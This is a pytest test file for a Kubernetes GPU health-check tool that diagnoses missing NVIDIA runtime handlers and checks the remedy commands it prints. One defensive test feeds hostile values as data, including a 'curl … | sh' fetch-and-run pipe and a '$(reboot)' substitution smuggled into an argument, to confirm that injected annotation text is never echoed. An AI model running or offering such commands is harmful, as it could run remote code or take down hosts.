"""A handler that a node does not have, by its own words in each version, and who is to blame for it."""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterator
from typing import Any

import pytest

from gpu_healthcheck.diagnosis.causes.diagnose import Diagnosis, Problem
from gpu_healthcheck.diagnosis.causes.runtime_handlers import RECORD_REASONS
from gpu_healthcheck.diagnosis.model import FoundCause
from gpu_healthcheck.healthcheck.checks import CHECKS
from gpu_healthcheck.healthcheck.checks.runtime_fixes import helm_values
from gpu_healthcheck.healthcheck.checks.runtime_restart import REASONS
from tests.diagnosis.states import (
    Object,
    ago,
    condition,
    consequences,
    container,
    event,
    judged,
    node,
    obj,
    pod,
    recorded,
    results,
    terminated,
    waiting,
)

NVIDIA = obj("RuntimeClass", "nvidia", handler="nvidia")
NO_RUNTIME = (
    'Failed to create pod sandbox: rpc error: code = Unknown desc = failed to get sandbox runtime: no runtime for "{}" '
    "is configured"
)
TEXTS = [
    NO_RUNTIME.format("nvidia"),
    (
        "Failed to create pod sandbox: rpc error: code = Unknown desc = unable to get OCI runtime for sandbox "
        '"18073b7795": no runtime for "nvidia" is configured'
    ),
    (
        "Failed to create pod sandbox: rpc error: code = Unknown desc = failed to find runtime handler nvidia from "
        "runtime list map[crun:0xc00 runc:0xc01]"
    ),
    'Failed to create pod sandbox: rpc error: code = Unknown desc = RuntimeHandler "nvidia" not supported',
]


def stuck(name: str = "trainer", on: str = "a", **changes: Any) -> Object:
    spec = {"runtimeClassName": changes.pop("runtime_class", "nvidia")}
    return pod(name, on=on, phase="Pending", spec=spec, states=[waiting("ContainerCreating")], **changes)


def toolkit(config: str = "/etc/containerd", socket: str = "/run/containerd", **env: str) -> Object:
    volumes = [
        {"name": "containerd-config", "hostPath": {"path": config}},
        {"name": "containerd-socket", "hostPath": {"path": socket}},
    ]
    named = {"CONTAINERD_CONFIG": "/runtime/config-dir/config.toml"} | env
    main = container("toolkit", 0, env=[{"name": key, "value": value} for key, value in named.items()])
    spec = {"template": {"spec": {"containers": [main], "volumes": volumes}}}
    name = "nvidia-container-toolkit-daemonset"
    status = {"desiredNumberScheduled": 1, "currentNumberScheduled": 1, "numberReady": 1}
    labels = {"labels": {"app": name}}
    return obj("DaemonSet", name, "gpu-operator", metadata=labels, spec=spec, status=status)


@pytest.mark.parametrize("text", TEXTS)
def test_node_without_the_handler_is_reported_once(text: str) -> None:
    pods = [stuck(f"trainer-{number}") for number in range(5)]
    events = [event(pod, "FailedCreatePodSandBox", text, count=20) for pod in pods]

    diagnosis = judged(node("a", handlers=None), NVIDIA, *pods, *events)

    assert results(diagnosis) == [("RuntimeHandlerMissing", "node/a")]
    assert len(diagnosis.problems[0].found.affected) == 5


def test_kubelets_list_of_handlers_is_enough_without_events() -> None:
    assert results(judged(node("a", handlers=("", "runc")), NVIDIA, stuck())) == [("RuntimeHandlerMissing", "node/a")]
    assert not results(judged(node("a"), NVIDIA, stuck()))


def test_message_of_a_container_state_names_the_missing_handler() -> None:
    state = waiting("CreateContainerError", 'failed to get sandbox runtime: no runtime for "nvidia" is configured')
    held = pod("x", on="a", phase="Pending", spec={"runtimeClassName": "nvidia"}, states=[state])

    assert results(judged(node("a", handlers=None), NVIDIA, held)) == [("RuntimeHandlerMissing", "node/a")]


@pytest.mark.parametrize("progress", ["Pulling", "Pulled", "Created", "Started"])
def test_event_before_the_pods_progress_is_ignored(progress: str) -> None:
    held = stuck()
    fields = event(held, "FailedCreatePodSandBox", TEXTS[0], minutes=9, count=20)
    later = event(held, progress, "on it", minutes=1, warning=False)

    assert not results(judged(node("a", handlers=None), NVIDIA, held, fields, later))


def test_event_about_an_earlier_pod_of_the_same_name_is_ignored() -> None:
    held = stuck()
    fields = event(held, "FailedCreatePodSandBox", TEXTS[0], count=20, uid="another")

    assert not results(judged(node("a", handlers=None), NVIDIA, held, fields))


def test_new_node_or_pod_is_not_reported() -> None:
    new = node("a", handlers=("runc",))
    new["metadata"]["creationTimestamp"] = ago(4)
    held, young = stuck(), stuck("young", age=0.5)
    fields = event(held, "FailedCreatePodSandBox", TEXTS[0], count=20)

    assert not results(judged(new, NVIDIA, held, fields))
    assert not results(judged(node("b", handlers=("runc",)), NVIDIA, young))


@pytest.mark.parametrize(
    ("asked", "has"), [("Nvidia", "nvidia"), ("nvidia", "nvidia-container-runtime"), ("nvdia", "nvidia")]
)
def test_runtime_class_with_a_misspelt_handler_is_the_cause(asked: str, has: str) -> None:
    named = obj("RuntimeClass", "gpu-nvidia", handler=asked)
    held = [stuck(f"x-{on}", on=on, runtime_class="gpu-nvidia") for on in "ab"]
    events = [event(entry, "FailedCreatePodSandBox", NO_RUNTIME.format(asked), count=9) for entry in held]
    nodes = [node(name, handlers=("", "runc", has)) for name in "ab"]

    assert results(judged(*nodes, named, *held, *events)) == [("RuntimeClassHandlerWrong", "runtimeclass/gpu-nvidia")]


def test_pod_without_a_gpu_on_a_node_without_one_needs_another_class() -> None:
    plain = pod(
        "x",
        0,
        on="cpu",
        phase="Pending",
        spec={"runtimeClassName": "nvidia"},
        states=[waiting("ContainerCreating")],
    )

    diagnosis = judged(node("cpu", None, handlers=("runc",)), node("a"), NVIDIA, plain)

    assert results(diagnosis) == [("RuntimeClassOnNodeWithoutGpu", "runtimeclass/nvidia")]


SERVER = {"node-role.kubernetes.io/control-plane": "true"}
K3S = {"kubelet": "v1.33.3+k3s1", "runtime": "containerd://2.0.5-k3s2", "handlers": ("", "runc")}


def plugin_of(on: str) -> list[Object]:
    """A device plugin with NVIDIA's class and without a sandbox."""
    waits = stuck("nvidia-device-plugin-x", on, containers=[container("plugin")], labels={"name": PLUGIN_LABEL})
    return [NVIDIA, waits, event(waits, "FailedCreatePodSandBox", TEXTS[0], count=90)]


PLUGIN_LABEL = "nvidia-device-plugin-ds"


def test_plugin_that_cannot_start_hides_the_gpus_of_all_nodes() -> None:
    diagnosis = judged(node("box", None, **K3S), *plugin_of("box"))

    assert results(diagnosis) == [("RuntimeHandlerMissing", "node/box")]
    assert "`systemctl restart k3s-agent`" in diagnosis.problems[0].found.remedy[0]


TO_CONTAINERD = "`nvidia-ctk runtime configure --runtime=containerd --config="
BY_HAND: list[tuple[str, Object, str]] = [
    ("any other", {}, f"{TO_CONTAINERD}/etc/containerd/config.toml && systemctl restart containerd`"),
    (
        *("k0s", {"kubelet": "v1.33.4+k0s"}),
        f"{TO_CONTAINERD}/etc/k0s/containerd.d/nvidia.toml --config-source=file && systemctl restart 'k0s*'`",
    ),
    (
        *("Canonical Kubernetes", {"labels": {"k8sd.io/role": "worker"}}),
        (
            f"{TO_CONTAINERD}/etc/containerd/config.toml --drop-in-config=/etc/containerd/conf.d/99-nvidia.toml && "
            "snap restart k8s.containerd`"
        ),
    ),
    ("MicroK8s", {"labels": {"microk8s.io/cluster": "true"}}, "`microk8s enable nvidia`"),
    (
        *("Docker", {"runtime": "docker://26.1.0"}),
        "`nvidia-ctk runtime configure --runtime=docker --set-as-default && systemctl restart docker`",
    ),
    (
        *("CRI-O", {"runtime": "cri-o://1.33.1"}),
        (
            "`nvidia-ctk runtime configure --runtime=crio --drop-in-config=/etc/crio/crio.conf.d/99-nvidia.toml && "
            "systemctl restart crio`"
        ),
    ),
    (
        *("CRI-O beside k3s", {"runtime": "cri-o://1.33.1", "kubelet": "v1.33.4+k3s1"}),
        (
            "`nvidia-ctk runtime configure --runtime=crio --drop-in-config=/etc/crio/crio.conf.d/99-nvidia.toml && "
            "systemctl restart crio`"
        ),
    ),
    ("RKE2's server", {"kubelet": "v1.33.4+rke2r1", "labels": SERVER}, "`systemctl restart rke2-server`"),
    ("Bottlerocket", {"runtime": "containerd://2.1.4+bottlerocket"}, "`aws-k8s-1.33-nvidia`"),
    (
        *("EKS", {"system": "Amazon Linux 2023.9.20251105", "kubelet": "v1.33.4-eks-1"}),
        f"{TO_CONTAINERD}/etc/containerd/config.toml && systemctl restart containerd`; nodeadm rewrites",
    ),
    ("Talos", {"system": "Talos (v1.11.0)"}, "nvidia-container-toolkit-production"),
    ("GKE", {"kubelet": "v1.33.4-gke.100"}, "remove runtimeClassName from the pods"),
]


@pytest.mark.parametrize(("changes", "words"), [pair[1:] for pair in BY_HAND], ids=[pair[0] for pair in BY_HAND])
def test_steps_on_the_node_depend_on_its_distribution(changes: Object, words: str) -> None:
    (problem,) = judged(node("a", **({"handlers": ("", "runc")} | changes)), NVIDIA, stuck()).problems
    commands = next(text for text in problem.found.remedy if "kubectl get node" not in text)

    assert words in commands
    assert words.startswith("`nvidia-ctk") or "nvidia-ctk" not in commands


def test_plugin_on_a_node_without_gpus_needs_a_selector() -> None:
    diagnosis = judged(node("box", None, **K3S), node("a"), *plugin_of("box"))

    assert ("RuntimeClassOnNodeWithoutGpu", "runtimeclass/nvidia") in results(diagnosis)


def test_handler_that_is_not_for_gpus_is_ignored() -> None:
    plain = pod("x", 0, on="a", phase="Pending", spec={"runtimeClassName": "gvisor"}, states=[waiting("Pending")])
    fields = event(plain, "FailedCreatePodSandBox", NO_RUNTIME.format("runsc"), count=9)

    assert not results(judged(node("a"), obj("RuntimeClass", "gvisor", handler="runsc"), plain, fields))


def test_toolkit_that_configures_another_runtime_is_the_cause() -> None:
    k3s = node("a", handlers=("", "runc"), runtime="containerd://2.1.4-k3s1", kubelet="v1.33.4+k3s1")
    policy = obj("ClusterPolicy", "policy", spec={"toolkit": {"env": [{"name": "NVIDIA_RUNTIME_NAME", "value": "n"}]}})

    diagnosis = judged(k3s, NVIDIA, stuck(), toolkit(), policy)

    (problem,) = diagnosis.problems
    assert results(diagnosis) == [
        ("ToolkitConfiguresAnotherRuntime", "daemonset/gpu-operator/nvidia-container-toolkit-daemonset")
    ]
    assert consequences(problem) == [("RuntimeHandlerMissing", "node/a")]
    words = shlex.split(problem.found.remedy[0].split("`")[1])
    assert words[-1] == (
        "toolkit.env[0].name=NVIDIA_RUNTIME_NAME,toolkit.env[0].value=n,"
        "toolkit.env[1].name=CONTAINERD_SOCKET,toolkit.env[1].value=/run/k3s/containerd/containerd.sock"
    )


def test_toolkit_that_writes_the_kubelets_file_is_not_the_cause() -> None:
    k3s = node("a", handlers=("", "runc"), runtime="containerd://2.1.4-k3s1", kubelet="v1.33.4+k3s1")
    right = toolkit(socket="/var/run/k3s/containerd")

    assert results(judged(k3s, NVIDIA, stuck(), right)) == [("RuntimeHandlerMissing", "node/a")]


def test_finding_of_the_agent_is_evidence_and_names_the_file() -> None:
    detail = (
        "/etc/containerd/config.toml, line 9 has it, but another containerd reads that file; "
        "the kubelet's containerd reads /var/lib/k8s-containerd/k8s-containerd/etc/containerd/config.toml: "
        "`helm upgrade …`"
    )
    seen = node("a", handlers=None, annotations=recorded("NvidiaRuntimeElsewhere", detail=detail))
    held = stuck()

    diagnosis = judged(seen, NVIDIA, held, event(held, "FailedCreatePodSandBox", TEXTS[0]), toolkit())

    (problem,) = diagnosis.problems
    assert problem.found.cause.name == "ToolkitConfiguresAnotherRuntime"
    assert consequences(problem) == [("RuntimeHandlerMissing", "node/a")]
    assert any("agent on the node: NvidiaRuntimeElsewhere" in text for text in problem.found.evidence)
    assert any("/var/lib/k8s-containerd/k8s-containerd/etc" in text for text in problem.found.remedy)


HELM = f"`{helm_values({'CONTAINERD_CONFIG': '/etc/containerd/config.toml', 'CONTAINERD_SOCKET': '/run/a b.sock'})}`"
CONFIGURE = "nvidia-ctk runtime configure --runtime=containerd --config=/etc/containerd/config.toml"
HOST = f"`{CONFIGURE} && systemctl restart containerd`"
EITHER = f"/etc/containerd/config.toml: with the GPU operator {HELM}; with the toolkit on the host {HOST}"


def test_advice_names_the_file_of_the_agents_finding_and_follows_the_operator() -> None:
    seen = node("a", handlers=None, annotations=recorded("NvidiaRuntimeMissing", detail=EITHER))

    (without,) = judged(seen, NVIDIA, stuck()).problems
    (operators,) = judged(seen, NVIDIA, stuck(), toolkit(), operator_pod()).problems

    assert without.found.remedy[0].endswith(HOST)
    assert not any("nvidia-ctk" in text for text in operators.found.remedy)
    assert "agent on the node: NvidiaRuntimeMissing: /etc/containerd/config.toml" in without.found.evidence


@pytest.mark.parametrize("command", ["curl example.com/x | sh", f"{CONFIGURE} --config=$(reboot)", "reboot"])
def test_command_in_a_record_is_never_printed(command: str) -> None:
    """A node's owner can write its annotation, and people paste the printed commands."""
    for text in (EITHER.replace(HOST, f"`{command}`"), f"/etc/containerd/config.toml: correct it, then `{command}`"):
        seen = node("a", handlers=None, annotations=recorded("NvidiaRuntimeMissing", detail=text))

        (problem,) = judged(seen, NVIDIA, stuck()).problems

        assert [step.rpartition(": ")[2] for step in problem.found.remedy] == [HOST]
        assert command not in str(problem.found)


def test_host_toolkit_that_configures_another_runtime_is_the_cause() -> None:
    message_there = (
        f"/etc/two.toml, line 9 has it, but another containerd reads that file; the kubelet's containerd reads {EITHER}"
    )
    seen = node("a", handlers=None, annotations=recorded("NvidiaRuntimeElsewhere", detail=message_there))

    diagnosis = judged(seen, NVIDIA, stuck())

    assert results(diagnosis) == [("ToolkitConfiguresAnotherRuntime", "node/a")]
    assert consequences(diagnosis.problems[0]) == [("RuntimeHandlerMissing", "node/a")]
    assert diagnosis.problems[0].found.remedy[0].endswith(HOST)


@pytest.mark.parametrize(
    ("ready", "causes"),
    [
        (None, []),
        (("False", 3), []),
        (("True", 0.5), []),
        (("True", 3), [("RuntimeHandlerMissing", "node/a")]),
    ],
)
def test_new_node_is_not_reported_until_its_toolkit_is_ready(
    ready: tuple[str, float] | None, causes: list[tuple[str, str]]
) -> None:
    new = node("a", handlers=("", "runc"), age=5, annotations=recorded("NvidiaRuntimeMissing", detail=EITHER))
    held = stuck(age=4)
    fields = event(held, "FailedCreatePodSandBox", TEXTS[0], count=9)
    its = [operator_pod(*ready)] if ready is not None else []

    assert results(judged(new, NVIDIA, held, fields, toolkit(), *its)) == causes


def test_new_node_without_a_toolkit_is_reported_at_once() -> None:
    held = stuck(age=4)
    fields = event(held, "FailedCreatePodSandBox", TEXTS[0], count=9)
    new = node("a", handlers=("", "runc"), age=5, annotations=recorded("NvidiaRuntimeMissing", detail=EITHER))

    (problem,) = judged(new, NVIDIA, held, fields).problems

    assert (problem.found.subject, problem.found.affected) == ("node/a", ("pod/team/trainer",))
    assert not results(judged(new, NVIDIA, held, fields, missing=["DaemonSet"]))


def operator_pod(status: str = "True", minutes: float = 300) -> Object:
    """The toolkit's, on the node `a`."""
    name = "nvidia-container-toolkit-daemonset"
    conditions = [condition("PodScheduled", "True"), condition("Ready", status, minutes=minutes)]
    ends = {} if status == "True" else {"phase": "Pending", "states": [waiting("PodInitializing")]}
    owner = {"owner": ("DaemonSet", name), "labels": {"app": name}}
    return pod("toolkit-x", 0, on="a", namespace="gpu-operator", conditions=conditions, age=4, **owner, **ends)


def test_finding_of_the_agent_is_a_cause_without_waiting_pods() -> None:
    seen = node(
        "a", handlers=None, annotations=recorded("NvidiaRuntimeMissing", detail="/etc/containerd/config.toml: x")
    )

    assert results(judged(seen, NVIDIA)) == [("RuntimeHandlerMissing", "node/a")]
    assert not results(judged(seen, NVIDIA, pod("works", on="a")))


def test_component_that_waits_for_the_handler_is_a_consequence() -> None:
    name = "nvidia-device-plugin-daemonset"
    waits = stuck("plugin-x", namespace="gpu-operator", labels={"app": name}, containers=[container("plugin")])
    fields = event(waits, "FailedCreatePodSandBox", TEXTS[0], count=50)

    diagnosis = judged(node("a", handlers=None), NVIDIA, waits, fields)

    assert results(diagnosis) == [("RuntimeHandlerMissing", "node/a")]
    assert consequences(diagnosis.problems[0]) == [("DevicePluginNotReady", "node/a")]


def job(name: str, runtime_class: str, **status: Any) -> Object:
    template = {"spec": {"runtimeClassName": runtime_class, "containers": [container("main", 1)]}}
    return obj("Job", name, "team", spec={"parallelism": 2, "template": template}, status=status)


def test_missing_runtime_class_is_the_cause_of_refused_pods() -> None:
    waits = job("train", "nvidia")
    refused = 'Error creating: pods "train-" is forbidden: pod rejected: RuntimeClass "nvidia" not found'

    diagnosis = judged(node("a"), waits, event(waits, "FailedCreate", refused, by="job-controller"))

    assert ("RuntimeClassMissing", "runtimeclass/nvidia") in results(diagnosis)
    assert not results(judged(node("a"), NVIDIA, job("train", "nvidia", active=2, ready=2)))
    assert not results(judged(node("a"), job("train", "nvidia", succeeded=2)))


def test_unlisted_runtime_classes_are_not_missing() -> None:
    assert not results(judged(node("a"), job("train", "nvidia"), missing=["RuntimeClass"]))


def test_old_message_about_a_running_pod_is_ignored() -> None:
    works = pod("x", on="a", spec={"runtimeClassName": "nvidia"})
    works["status"]["containerStatuses"][0]["lastState"] = {"terminated": terminated(128, "StartError", TEXTS[0])}

    assert not results(
        judged(node("a", handlers=None), NVIDIA, works, event(works, "FailedCreatePodSandBox", TEXTS[0]))
    )


def test_reasons_in_the_record_are_declared_by_checks() -> None:
    known = {reason.name for check in CHECKS for reason in check.reasons}

    assert set(RECORD_REASONS) <= known


def test_inventory_of_two_runtimes_shows_where_the_toolkit_writes() -> None:
    own, other = "/var/lib/k8s-containerd/etc/containerd/config.toml", "/etc/containerd/config.toml"
    socket = "/var/lib/k8s-containerd/run/containerd/containerd.sock"
    runtime = {"config": own, "socket": socket, "handlers": ["runc"], "others": [other], "nvidia_in": [other]}
    seen = node("a", handlers=None, annotations=recorded(inventory={"runtime": runtime}))

    diagnosis = judged(seen, NVIDIA, stuck(), toolkit())

    (problem,) = diagnosis.problems
    assert problem.found.cause.name == "ToolkitConfiguresAnotherRuntime"
    assert consequences(problem) == [("RuntimeHandlerMissing", "node/a")]
    assert f"toolkit.env[0].value={own}" in problem.found.remedy[0]
    assert f"toolkit.env[1].name=CONTAINERD_SOCKET,toolkit.env[1].value={socket}" in problem.found.remedy[0]


SOCKET = "/run/own/containerd.sock"


@pytest.mark.parametrize(
    ("inventory", "causes"),
    [
        ({"socket": SOCKET}, ["ToolkitConfiguresAnotherRuntime"]),
        ({"socket": "/run/containerd/containerd.sock"}, ["RuntimeHandlerMissing"]),
        ({}, ["RuntimeHandlerMissing"]),
    ],
    ids=["another socket", "the toolkit's socket", "an older record"],
)
def test_recorded_socket_is_the_target_of_the_toolkit(inventory: Object, causes: list[str]) -> None:
    annotations = recorded(inventory={"runtime": inventory | {"config": "/etc/containerd/config.toml"}})
    diagnosis = judged(node("a", handlers=("", "runc"), annotations=annotations), NVIDIA, stuck(), toolkit())
    steps = " ".join(diagnosis.problems[0].found.remedy)

    assert [name for name, _ in results(diagnosis)] == causes
    assert (f"value={SOCKET}" in steps) == (inventory.get("socket") == SOCKET)
    assert "SOCKET by them" not in steps


def test_common_step_of_many_nodes_names_the_recorded_files() -> None:
    annotations = recorded(inventory={"runtime": {"config": "/etc/own/config.toml", "socket": SOCKET}})
    nodes = [node(f"n-{number}", handlers=("", "runc"), annotations=annotations) for number in range(9)]
    pods = [stuck(f"trainer-{number}", on=f"n-{number}") for number in range(9)]
    texts = [step for problem in judged(*nodes, *pods, NVIDIA, toolkit()).problems for step in problem.found.remedy]

    assert any(f"value={SOCKET}" in step for step in texts)
    assert not any("CONFIG and SOCKET" in step for step in texts)


def test_many_nodes_without_the_handler_are_one_cause() -> None:
    nodes = [node(f"n-{number}", handlers=("", "runc")) for number in range(20)]
    pods = [stuck(f"trainer-{number}", on=f"n-{number}") for number in range(20)]

    (problem,) = judged(*nodes, *pods, NVIDIA).problems

    assert (problem.found.cause.name, problem.found.subject) == ("RuntimeHandlerMissing", "runtimeclass/nvidia")
    assert len(consequences(problem)) == 20
    assert len(problem.found.affected) == 20


@pytest.mark.parametrize(
    ("kubelets", "toolkits", "blamed"),
    [
        ("unix:///run/containerd/containerd.sock", "/run/containerd", False),
        ("unix:///var/run/containerd/containerd.sock", "/run/containerd", False),
        ("unix:///run/k8s-containerd/containerd.sock", "/run/containerd", True),
        ("unix:///run/containerd/containerd.sock", "/run/k3s/containerd", True),
    ],
)
def test_kubeadms_socket_is_the_target_of_the_toolkit(kubelets: str, toolkits: str, blamed: bool) -> None:
    fields_by = {"kubeadm.alpha.kubernetes.io/cri-socket": kubelets}
    seen = node("a", handlers=("", "runc"), annotations=fields_by)
    whole = toolkit(socket=toolkits)
    name = whole["metadata"]["name"]
    only = pod("x", 0, on="a", namespace="gpu-operator", owner=("DaemonSet", name))
    only["spec"] |= whole["spec"]["template"]["spec"]

    for objects, missing in (((whole,), ()), ((only,), ("DaemonSet",))):
        causes = [name for name, _ in results(judged(seen, NVIDIA, stuck(), *objects, missing=missing))]
        assert causes == ["ToolkitConfiguresAnotherRuntime" if blamed else "RuntimeHandlerMissing"]


def test_toolkit_without_a_runtime_at_its_socket_configures_another_runtime() -> None:
    whole = toolkit()
    words = (
        "error running nvidia-toolkit: unable to restart containerd: unable to dial: dial unix /runtime/sock-dir/"
        "containerd.sock: connect: no such file or directory"
    )
    last: Object = {"lastState": {"terminated": terminated(1, "Error", words)}, "restartCount": 9}
    fails = pod(
        "x",
        0,
        on="a",
        namespace="gpu-operator",
        labels={"app": whole["metadata"]["name"]},
        owner=("DaemonSet", whole["metadata"]["name"]),
        states=[waiting("CrashLoopBackOff", **last)],
    )

    diagnosis = judged(node("a", handlers=("", "runc")), NVIDIA, whole, fails, stuck())

    (problem,) = diagnosis.problems
    assert problem.found.cause.name == "ToolkitConfiguresAnotherRuntime"
    assert sorted(consequences(problem)) == [
        ("ContainerToolkitNotReady", "node/a"),
        ("RuntimeHandlerMissing", "node/a"),
    ]


@pytest.mark.parametrize(("age", "found"), [(60.0, [("RuntimeHandlerMissing", "node/a")]), (5.0, [])])
def test_pod_that_waited_long_is_enough_without_nodes(age: float, found: list[tuple[str, str]]) -> None:
    waits = stuck(age=age)
    fields = event(waits, "FailedCreatePodSandBox", TEXTS[0], count=90)

    assert results(judged(waits, fields, NVIDIA, missing=["Node"])) == found


# Files that would not serve the kubelet, and commands that would load them.


RESTARTING = re.compile("(?:systemctl|snap|rollout) restart|helm upgrade")
UNIMPLEMENTED = (
    "Failed to create pod sandbox: rpc error: code = Unimplemented desc = unknown service runtime.v1.RuntimeService"
)


@pytest.mark.parametrize("reason", ["RuntimeCriDisabled", "DefaultRuntimeUndefined", "RuntimeConfigMalformed"])
def test_unloadable_configuration_is_the_cause(reason: str) -> None:
    down = node("a", handlers=None, annotations=recorded("NvidiaRuntimeMissing", reason, detail=EITHER))
    down["status"]["conditions"] = [condition("Ready", "False", minutes=30, reason="KubeletNotReady")]
    held, unreached = stuck(), stuck("unreached")
    events = [
        event(held, "FailedCreatePodSandBox", TEXTS[0], count=20),
        event(unreached, "FailedCreatePodSandBox", UNIMPLEMENTED, count=20),
    ]

    diagnosis = judged(down, NVIDIA, held, unreached, *events)

    assert results(diagnosis) == [(reason, "node/a")]
    (problem,) = diagnosis.problems
    assert sorted(name for name, _ in consequences(problem)) == [
        "ContainerRuntimeUnreachable",
        "NodeNotReady",
        "RuntimeHandlerMissing",
    ]


def test_second_unloadable_fault_follows_from_the_first() -> None:
    seen = node("a", handlers=(), annotations=recorded("DefaultRuntimeUndefined", "RuntimeCriDisabled", detail=EITHER))

    (problem,) = judged(seen, NVIDIA, stuck()).problems

    assert problem.found.cause.name == "RuntimeCriDisabled"
    assert ("DefaultRuntimeUndefined", "node/a") in consequences(problem)


def test_unloadable_configuration_of_a_working_node_is_no_cause() -> None:
    assert not results(
        judged(node("a", annotations=recorded("RuntimeCriDisabled", detail=EITHER)), NVIDIA, pod("works", on="a"))
    )


@pytest.mark.parametrize("reason", REASONS)
@pytest.mark.parametrize("operators", [True, False])
def test_no_command_restarts_a_runtime_with_faulty_files(reason: str, operators: bool) -> None:
    seen = node("a", handlers=("", "runc"), annotations=recorded("NvidiaRuntimeMissing", reason, detail=EITHER))
    its = [toolkit(), operator_pod()] if operators else []

    remedies = every_remedy(judged(seen, NVIDIA, stuck(), *its))
    well = every_remedy(judged(node("a", handlers=("", "runc")), NVIDIA, stuck(), *its))

    assert RESTARTING.search(well)
    assert not RESTARTING.search(remedies)
    assert f"First fix the finding of the agent on node/a: {reason}" in remedies


def test_a_command_for_all_nodes_waits_for_the_one_with_the_fault() -> None:
    broken = node("b", annotations=recorded("RuntimeCriDisabled", detail=EITHER))
    lacking = node("a", handlers=("", "runc"))

    assert not RESTARTING.search(every_remedy(judged(lacking, broken, NVIDIA, stuck(), toolkit(), operator_pod())))
    assert RESTARTING.search(every_remedy(judged(lacking, broken, NVIDIA, stuck())))


def every_remedy(diagnosis: Diagnosis) -> str:
    return "\n".join(
        line for problem in diagnosis.problems for found in (problem.found, *below(problem)) for line in found.remedy
    )


def below(problem: Problem) -> Iterator[FoundCause]:
    for consequence in problem.consequences:
        yield consequence.found
        yield from below(consequence)
